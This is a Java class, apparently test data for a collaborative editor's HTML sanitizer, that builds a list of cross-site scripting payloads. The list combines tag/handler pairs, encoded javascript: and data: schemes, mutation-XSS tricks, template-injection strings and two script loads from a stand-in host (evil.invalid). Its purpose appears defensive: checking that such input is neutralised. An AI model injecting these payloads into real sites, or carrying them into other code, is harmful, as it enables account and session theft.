package coedit.system.browser;

import java.util.ArrayList;
import java.util.List;

/** Pieces of HTML that would run a script, if anybody took them for more than text. */
final class ScriptPayloads {

  private static final List<String> TAGS =
      List.of(
          "img",
          "svg",
          "body",
          "iframe",
          "object",
          "embed",
          "video",
          "audio",
          "input",
          "details",
          "marquee",
          "math",
          "style",
          "button",
          "a",
          "p",
          "table",
          "custom-tag");
  private static final List<String> HANDLERS =
      List.of(
          "onerror",
          "onload",
          "onfocus autofocus tabindex=0 onfocus",
          "onmouseover",
          "ontoggle",
          "onanimationstart");
  private static final List<String> SCHEMES =
      List.of(
          "javascript:alert(1)",
          "JaVaScRiPt:alert(1)",
          " javascript:alert(1)",
          "java&#9;script:alert(1)",
          "java&#10;script:alert(1)",
          "&#106;avascript:alert(1)",
          "&#x6a;avascript&colon;alert(1)",
          "\u0001javascript:alert(1)",
          "javascript://%0aalert(1)",
          "vbscript:msgbox(1)",
          "data:text/html,<script>alert(1)</script>",
          "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
          "blob:alert(1)",
          "//javascript:alert(1)");
  private static final List<String> LINKS =
      List.of(
          "<a href=\"%s\">x</a>",
          "<img src=\"%s\">",
          "<iframe src=\"%s\"></iframe>",
          "<form action=\"%s\"><button>x</button></form>");
  private static final List<String> OTHERS =
      List.of(
          "<script>alert(1)</script>",
          "<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>",
          "<scr<script>ipt>alert(1)</scr</script>ipt>",
          "<script\u0000>alert(1)</script>".replace("\u0000", " "),
          "\"><script>alert(1)</script>",
          "'><script>alert(1)</script>",
          "</title><script>alert(1)</script>",
          "</textarea><script>alert(1)</script>",
          "--><script>alert(1)</script>",
          "]]><script>alert(1)</script>",
          "<svg><script>alert(1)</script></svg>",
          "<svg><script href=\"data:,alert(1)\"/></svg>",
          "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
          "<svg><set attributeName=href to=javascript:alert(1)><a><text>x</text></a></svg>",
          "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"/></svg>",
          "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
          "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
          "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
          "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
          "<template><script>alert(1)</script></template>",
          "<style>@import 'javascript:alert(1)';</style>",
          "<style>*{background:url(javascript:alert(1))}</style>",
          "<div style=\"background:url(javascript:alert(1))\">x</div>",
          "<div style=\"width:expression(alert(1))\">x</div>",
          "<link rel=stylesheet href=javascript:alert(1)>",
          "<link rel=import href=//evil.invalid>",
          "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
          "<base href=\"javascript:alert(1)//\">",
          "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
          "<object data=\"javascript:alert(1)\"></object>",
          "<embed src=\"javascript:alert(1)\">",
          "<isindex action=javascript:alert(1) type=image>",
          "<input type=image src=x onerror=alert(1)>",
          "<img src=x:x onerror=\"&#97;lert(1)\">",
          "<img src=`x`onerror=alert(1)>",
          "<img/src=x/onerror=alert(1)>",
          "<img src=x onerror=alert&lpar;1&rpar;>",
          "<a href=x ping=javascript:alert(1) onclick=alert(1)>x</a>",
          "<a href=\"https://ok.invalid\" onclick=\"alert(1)\" target=_blank>x</a>",
          "<b onmouseenter=alert(1)>x</b>",
          "<ul><li onclick=alert(1) data-list=bullet>x</li></ul>",
          "<pre data-language=\"x&quot; onclick=alert(1)\">x</pre>",
          "<span class=\"ql-ui\" contenteditable=true onfocus=alert(1)>x</span>",
          "<span class=\"ql-formula\" data-value=\"\\href{javascript:alert(1)}{x}\">x</span>",
          "<iframe class=\"ql-video\" src=\"javascript:alert(1)\"></iframe>",
          "{{constructor.constructor('alert(1)')()}}",
          "${alert(1)}",
          "<%= alert(1) %>",
          "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
          "\u202e<script>alert(1)</script>",
          "a<b and b>c",
          "&lt;script&gt;alert(1)&lt;/script&gt;");

  private ScriptPayloads() {}

  static List<String> all() {
    List<String> all = new ArrayList<>(OTHERS);
    for (String tag : TAGS) {
      for (String handler : HANDLERS) {
        all.add("<" + tag + " src=x " + handler + "=alert(1)>x");
      }
    }
    for (String link : LINKS) {
      SCHEMES.forEach(scheme -> all.add(link.formatted(scheme)));
    }
    return all;
  }

  /** Addresses that a link or an embed must not have. */
  static List<String> schemes() {
    return SCHEMES;
  }
}
